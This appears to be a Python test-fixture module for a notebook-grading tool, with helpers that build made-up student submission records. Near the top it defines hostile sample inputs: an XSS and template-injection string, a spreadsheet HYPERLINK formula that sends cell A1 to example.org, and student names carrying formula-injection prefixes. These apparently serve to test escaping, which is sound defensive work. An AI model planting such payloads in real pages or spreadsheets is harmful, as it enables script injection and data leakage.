"""Records of made-up submissions, harmless ones and others."""

from attnbook.grading.record import CheckMark, Record, Student, TaskMark

XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'{{ 7*7 }}"
FORMULA = '=HYPERLINK("http://example.org?"&A1,"mark")'
NAMES = ("@SUM(A1)", "+1", "-2+3", "=1+1", "\t=1", " =1", 'Ada, "Countess"\nof L.')


def checks(*points, text="f([1]) is off by up to 0.5", hint="", hidden=False):
    """Return checks of one point each."""
    return tuple(
        CheckMark("f", f"check {n}", p, 1, "" if p else text, "" if p else hint, hidden)
        for n, p in enumerate(points)
    )


def task(*points, name="f", **options):
    """Return a task of as many checks as there are points."""
    return TaskMark(
        "soft-lookup", name, sum(points), len(points), checks=checks(*points, **options)
    )


def record(submission="ada", *tasks, student=None, **fields):
    """Return the record of a submission."""
    given = {
        "file": f"{submission}.ipynb",
        "sha256": "ab" * 32,
        "key": "k",
        "student": student or Student("17", submission.title(), ""),
        "status": "graded",
        "sandbox": "bwrap",
        "tasks": tasks or (task(1, 0),),
    }
    return Record(submission, **(given | fields))


def ungraded(submission="bob", reason="not a notebook", **fields):
    """Return the record of a submission that has no mark."""
    status = {"status": "unreadable", "reason": reason, "tasks": ()}
    return record(submission, **(status | fields))
